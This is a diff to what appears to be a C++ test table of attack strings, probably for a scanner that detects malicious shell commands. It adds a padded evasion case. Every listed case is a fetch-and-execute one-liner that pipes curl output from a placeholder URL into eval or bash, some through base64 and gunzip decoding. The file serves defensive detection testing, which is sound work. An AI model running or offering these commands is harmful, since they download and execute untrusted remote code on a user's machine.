@@ -27,6 +27,9 @@ const Attack kTextAttacks[] = {
     TEXT_CASE("eval without quotes", "eval $(curl -s @LONG_URL)"),
     TEXT_CASE("a long script", "eval \"$(curl -s @LONG_URL)\""),
     TEXT_CASE("something before it", "bash -c \"cd /; $(echo; curl -s @LONG_URL)\""),
+    TEXT_CASE("a page with bytes of another",
+              "for i in $(seq 40); do x=$(seq -f 'line %g of another' 200);"
+              " done; bash -c \"cd /; $(echo; curl -s @LONG_URL)\""),
     TEXT_CASE("a here string", "bash <<< \"$(curl -s @URL)\""),
     TEXT_CASE("decoded on the way", "bash -c \"$(curl -s @B64_URL | base64 -d | gunzip)\""),
     TEXT_CASE("decoded by coreutils", "eval \"$(curl -s @PLAIN_B64_URL | base64 -d)\""),
